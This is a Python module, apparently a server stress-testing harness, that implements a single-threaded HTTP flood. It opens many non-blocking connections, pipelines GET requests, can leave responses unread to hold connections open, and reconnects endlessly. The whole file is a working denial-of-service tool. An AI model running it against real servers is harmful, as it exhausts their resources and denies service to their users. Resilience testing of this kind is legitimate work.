"""Many connections without a key, from one thread, so that the attacker leaves the CPU to the server."""

import resource
import select
import socket
from dataclasses import dataclass
from typing import Any

_RECEIVE_BYTES = 1_048_576
_END = b"\r\n\r\n"


@dataclass(frozen=True, slots=True)
class Flood:
    """Pipelined `GET` requests of one path on many connections.

    Without `reads`, clients never read responses, and connections stay open until the server closes them.
    """

    connections: int
    path: str
    pipelined: int = 1
    reads: bool = True


def send(address: Any, flood: Flood) -> None:
    """Send until the process is killed. Closed connections are opened again."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (flood.connections + 64, hard))
    epoll = select.epoll()
    clients = {client.descriptor: client for client in (_Client(address, flood) for _ in range(flood.connections))}
    for descriptor in clients:
        epoll.register(descriptor, select.EPOLLOUT)
    while True:
        for descriptor, events in epoll.poll():
            client = clients[descriptor]
            try:
                epoll.modify(descriptor, client.step(events))
            except OSError:
                client.connection.close()
                del clients[descriptor]
                new = _Client(address, flood)
                clients[new.descriptor] = new
                epoll.register(new.descriptor, select.EPOLLOUT)


class _Client:
    def __init__(self, address: Any, flood: Flood) -> None:
        self._request = f"GET {flood.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * flood.pipelined
        self._reads = flood.reads
        self._head = b""
        self._remaining_bytes = 0  # of a response's body
        self.connection = socket.socket()
        if not flood.reads:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        self.connection.setblocking(False)
        self.connection.connect_ex(address)
        self.descriptor = self.connection.fileno()

    def step(self, events: int) -> int:
        """Send or receive. Return the epoll events to wait for; without any, epoll still reports a closed connection.

        Raises:
            OSError: the connection is closed.
        """
        if events & select.EPOLLOUT or self._has_response():
            self.connection.send(self._request)
        return select.EPOLLIN if self._reads else 0

    def _has_response(self) -> bool:
        received = self.connection.recv(_RECEIVE_BYTES)
        if not received:
            raise ConnectionResetError
        if not self._remaining_bytes:
            self._head += received
            head, end, received = self._head.partition(_END)
            if not end:
                return False
            self._remaining_bytes = int(head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0] or 0)
            self._head = b""
        self._remaining_bytes -= len(received)
        return self._remaining_bytes <= 0
